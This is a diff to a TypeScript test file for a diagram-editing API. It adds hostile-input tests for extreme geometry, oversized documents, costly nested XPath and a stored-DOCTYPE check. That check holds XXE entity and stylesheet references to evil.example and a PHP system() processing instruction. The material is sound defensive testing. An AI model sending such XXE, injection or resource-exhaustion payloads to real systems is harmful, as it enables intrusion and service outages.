@@ -31,6 +31,38 @@ function vertex(id: string): string {
   return `<mxCell id="${id}" value="${id}" vertex="1" parent="1">${GEOMETRY}</mxCell>`;
 }
 
+/** A vertex whose geometry has `key` set to `value`. */
+function vertexAt(key: string, value: string): string {
+  return `<mxCell id="v" vertex="1" parent="1">${GEOMETRY.replace("<mxGeometry", `<mxGeometry ${key}="${value}"`)}</mxCell>`;
+}
+
+/** An `<mxfile>` of `n` empty pages. */
+function manyPages(n: number): string {
+  const pages: string[] = [];
+  for (let i = 0; i < n; i++)
+    pages.push(`<diagram id="p${i}" name="P${i}">${OPEN}${CLOSE}</diagram>`);
+  return `<mxfile>${pages.join("")}</mxfile>`;
+}
+
+/** A vertex carrying `n` extra attributes. */
+function withAttributes(n: number): string {
+  const attrs: string[] = [];
+  for (let i = 0; i < n; i++) attrs.push(`a${i}="1"`);
+  return `<mxCell id="v" ${attrs.join(" ")} vertex="1" parent="1">${GEOMETRY}</mxCell>`;
+}
+
+/**
+ * `//*[count(following::*[count(…)] | preceding::*[count(…)])]`, `depth` levels: every level
+ * walks the whole page again for each node of the one above. Cheap to write, not to run.
+ */
+function nestedWalks(depth: number): string {
+  let inner = "following::*";
+  for (let i = 1; i < depth; i++) {
+    inner = `following::*[count(${inner}) >= 0] | preceding::*[count(${inner}) >= 0]`;
+  }
+  return `//*[count(${inner}) >= 0]`;
+}
+
 /** A valid model with `n` small vertices (syntheticDiagram's cells are too big for 10 MB). */
 function manyCells(n: number): string {
   const cells: string[] = [];
@@ -277,6 +309,83 @@ const CASES: Case[] = [
       },
     ),
   ),
+  // Geometry beyond draw.io's canvas, and numbers that are not numbers (issue #15)
+  k("set_geometry x: 1e308", 422, INVALID, (c) =>
+    batch(c, { op: "set_geometry", id: "a", x: 1e308 }),
+  ),
+  k("set_geometry width: 10,000,001", 422, INVALID, (c) =>
+    batch(c, { op: "set_geometry", id: "a", width: 10_000_001 }),
+  ),
+  k(
+    'XML with x="1e308"',
+    422,
+    "invalid_xml",
+    (c) => putXml(c, OPEN + vertexAt("x", "1e308") + CLOSE),
+    finding("invalid_geometry"),
+  ),
+  k(
+    'XML with y="NaN"',
+    422,
+    "invalid_xml",
+    (c) => putXml(c, OPEN + vertexAt("y", "NaN") + CLOSE),
+    finding("invalid_geometry"),
+  ),
+  k(
+    'XML with x="-Infinity"',
+    422,
+    "invalid_xml",
+    (c) => putXml(c, OPEN + vertexAt("x", "-Infinity") + CLOSE),
+    finding("invalid_geometry"),
+  ),
+  k(
+    "add with a waypoint at -1e12",
+    422,
+    "operation_failed",
+    (c) =>
+      batch(c, {
+        op: "add",
+        xml: '<mxCell id="w" edge="1" parent="1" source="a" target="b"><mxGeometry relative="1" as="geometry"><Array as="points"><mxPoint x="-1e12" y="0"/></Array></mxGeometry></mxCell>',
+      }),
+    failedOp(0, "invalid_result"),
+  ),
+  // Shapes no real diagram has (issue #15)
+  k("10,000 empty pages", 413, "too_many_pages", (c) => putXml(c, manyPages(10_000))),
+  k("101 pages", 413, "too_many_pages", (c) => putXml(c, manyPages(101))),
+  k("100,000 attributes on one cell", 413, "too_many_attributes", (c) =>
+    putXml(c, OPEN + withAttributes(100_000) + CLOSE),
+  ),
+  k("501 attributes on one cell", 413, "too_many_attributes", (c) =>
+    putXml(c, OPEN + withAttributes(501) + CLOSE),
+  ),
+  k("a 100 KB cell id", 413, "id_too_long", (c) =>
+    putXml(c, OPEN + vertex("i".repeat(100_000)) + CLOSE),
+  ),
+  k("a 513-character cell id by add", 413, "id_too_long", (c) =>
+    batch(c, { op: "add", xml: vertex("i".repeat(513)) }),
+  ),
+  // XPath that would freeze the diagram (issue #15)
+  k(
+    "XPath nesting whole-page walks eight deep",
+    422,
+    "xpath_too_expensive",
+    (c) => batch(c, { op: "delete", select: nestedWalks(8) }),
+    (p) =>
+      expect(p.operation).toMatchObject({ index: 0, op: "delete", code: "xpath_too_expensive" }),
+  ),
+  k(
+    "XPath of 10,001 characters",
+    422,
+    "operation_failed",
+    (c) => batch(c, { op: "delete", select: `//mxCell[@id='${"x".repeat(10_000)}']` }),
+    failedOp(0, "invalid_xpath"),
+  ),
+  k(
+    "XPath with a variable",
+    422,
+    "operation_failed",
+    (c) => batch(c, { op: "delete", select: "//mxCell[@id=$victim]" }),
+    failedOp(0, "invalid_xpath"),
+  ),
   // Lists and exports
   k("cursor never issued", 422, "invalid_cursor", (c) => api(path(c, "/versions?cursor=nope!!"))),
   k('forged cursor "v0"', 422, "invalid_cursor", (c) => api(path(c, "/versions?cursor=djA"))),
@@ -329,6 +438,51 @@ describe("hostile input", () => {
     },
     120_000,
   );
+
+  it("stores and serves no DOCTYPE or processing instruction, wherever they were written", async () => {
+    const id = await createDiagram();
+    const cell = `<mxCell id="v" vertex="1" parent="1"><?php system("x") ?><!DOCTYPE x SYSTEM "http://evil.example/x.dtd">${GEOMETRY}</mxCell>`;
+    const xml = `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="http://evil.example/x.xsl"?><!DOCTYPE m [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]>${OPEN}${cell}${CLOSE}`;
+    const put = await api(`/v1/diagrams/${id}`, {
+      method: "PUT",
+      body: { xml },
+      headers: { "if-match": '"1"', prefer: "return=representation" },
+    });
+    expect(put.status).toBe(200);
+    const served = [
+      put.json.xml,
+      (await api(`/v1/diagrams/${id}`)).json.xml,
+      (await api(`/v1/diagrams/${id}/export?format=xml`)).text,
+      (await api(`/v1/diagrams/${id}/versions/2`)).json.xml,
+    ];
+    for (const text of served) {
+      expect(text).toContain('id="v"');
+      expect(text).not.toMatch(/<!DOCTYPE|<\?|<!ENTITY/i);
+    }
+    const repaired = await api("/v1/validate", { method: "POST", body: { xml, repair: true } });
+    expect(repaired.json.changes?.map((c: { code: string }) => c.code)).toContain(
+      "drop_declarations",
+    );
+  });
+
+  it("If-Match: * replaces whatever version is current (RFC 9110)", async () => {
+    const id = await createDiagram();
+    const res = await api(`/v1/diagrams/${id}`, {
+      method: "PUT",
+      body: { xml: SMALL_XML.replace("Start", "Any") },
+      headers: { "if-match": "*" },
+    });
+    expect(res.status).toBe(200);
+    expect(res.json.version).toBe(2);
+    expect(res.headers.get("etag")).toBe('"2"');
+    const ops = await api(`/v1/diagrams/${id}/operations`, {
+      method: "POST",
+      body: { operations: [{ op: "set_label", id: "a", value: "Star" }] },
+      headers: { "if-match": "*" },
+    });
+    expect(ops.status).toBe(200);
+    expect(ops.json.version).toBe(3);
+  });
 
   it("set_attribute named __proto__ is stored or refused, never silently dropped", async () => {
     const id = await createDiagram();
